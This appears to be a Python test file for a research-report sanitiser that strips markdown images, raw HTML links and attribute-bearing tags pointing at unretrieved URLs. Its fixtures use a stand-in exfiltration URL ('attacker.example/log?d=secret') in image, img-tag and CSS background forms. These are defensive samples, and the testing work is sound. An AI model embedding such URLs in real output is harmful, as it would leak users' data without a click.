"""Images and raw HTML: nothing in a report may link or load a URL no check has seen."""

from __future__ import annotations

from deep_research.citations import check_report
from deep_research.state import Source

PAGE = "https://real.example/page"
SOURCES = [Source(url=PAGE, title="Real", content="Heat pumps keep a COP of 2.", found_by="t")]
SPY = "https://attacker.example/log?d=secret"


def test_an_image_of_a_url_never_retrieved_becomes_its_description() -> None:
    # An image loads as the report is shown: its URL could carry data out without a click.
    checked = check_report(f"Chart: ![the chart]({SPY}) and [ok]({PAGE}) ![fig]({PAGE}).", SOURCES)
    assert checked.body == f"Chart: the chart and [ok]({PAGE}) ![fig]({PAGE})."
    assert checked.check["images_removed"] == 1 and checked.check["removed_urls"] == [SPY]
    assert checked.check["fabricated_removed"] == 0 and checked.check["links_kept"] == 1


def test_an_image_inside_a_link_goes_and_the_link_stays() -> None:
    checked = check_report(f"[![x](https://attacker.example/i.png)]({PAGE})", SOURCES)
    assert checked.body == f"[x]({PAGE})"
    assert checked.check["images_removed"] == 1 and checked.check["links_kept"] == 1


def test_reference_images_go_and_their_description_is_plain_text() -> None:
    report = "See ![a [link](https://fake.example/l) *~x*][img].\n\n[img]: https://fake.example/i\n"
    checked = check_report(report, SOURCES)
    assert checked.body == "See a link \\~x.\n\n[img]: https://fake.example/i\n"
    assert checked.check["images_removed"] == 1


def test_raw_html_links_go_and_their_text_stays() -> None:
    checked = check_report('Claim <a href="https://fake.example/x">here</a>.', SOURCES)
    assert checked.body == "Claim here."
    assert checked.check["fabricated_removed"] == 1
    assert checked.check["removed_urls"] == ["https://fake.example/x"]
    assert checked.check["html_removed"] == 2


def test_raw_html_links_to_retrieved_sources_go_too() -> None:
    # HTML is not a citation form: nothing checks or rebuilds it, so it is not kept.
    checked = check_report(f"Claim <a href='{PAGE}'>here</a>.", SOURCES)
    assert checked.body == "Claim here." and checked.check["fabricated_removed"] == 0
    assert checked.cited == []


def test_tags_with_attributes_go_and_bare_formatting_tags_stay() -> None:
    report = (
        f'H<sub>2</sub>O <img src="{SPY}"> <span style="background:url({SPY})">x</span> '
        f"<br/> <!-- note --> `<img src='{SPY}'>`\n\n```html\n<a href='{SPY}'>x</a>\n```\n"
    )
    checked = check_report(report, SOURCES)
    assert checked.body == report.replace(f'<img src="{SPY}">', "").replace(
        f'<span style="background:url({SPY})">x</span>', "x"
    )
    assert checked.check["removed_urls"] == [SPY] and checked.check["html_removed"] == 3


def test_html_blocks_lose_their_tags_and_keep_their_text() -> None:
    report = '<p>Claim <a href="https://fake.example/y">there</a></p>\n\nMore.'
    checked = check_report(report, SOURCES)
    assert checked.body == "<p>Claim there</p>\n\nMore."
    assert checked.check["fabricated_removed"] == 1


def test_an_html_block_of_only_removed_tags_leaves_a_placeholder() -> None:
    # An empty item cannot interrupt a paragraph: the list would become paragraph text.
    checked = check_report(f"Intro\n1. <img src='{SPY}'>\n2. Next", SOURCES)
    assert checked.body == "Intro\n1. (HTML removed)\n2. Next"


def test_tag_like_text_in_an_html_block_is_shown_as_text() -> None:
    # Browsers read `<a href=x / >` as a link though the CommonMark grammar does not.
    report = "<div>\n<a href=https://fake.example/z / >x\n</div>"
    checked = check_report(report, SOURCES)
    assert checked.body == "<div>\n&lt;a href=https://fake.example/z / >x\n</div>"


def test_markdown_an_html_block_hid_is_checked_once_its_tag_is_gone() -> None:
    checked = check_report('<section class="c">[x](https://fake.example/s)</section>', SOURCES)
    assert checked.body == "x" and checked.check["fabricated_removed"] == 1


def test_tags_without_attributes_stay_as_written_unless_their_content_is_not_text() -> None:
    report = "Models wrap thoughts in <think> and </think>; List<String>; <script>x()</script>"
    checked = check_report(report, SOURCES)
    assert checked.body == report.replace("<script>x()</script>", "&lt;script>x()&lt;/script>")
    assert checked.check["html_removed"] == 2
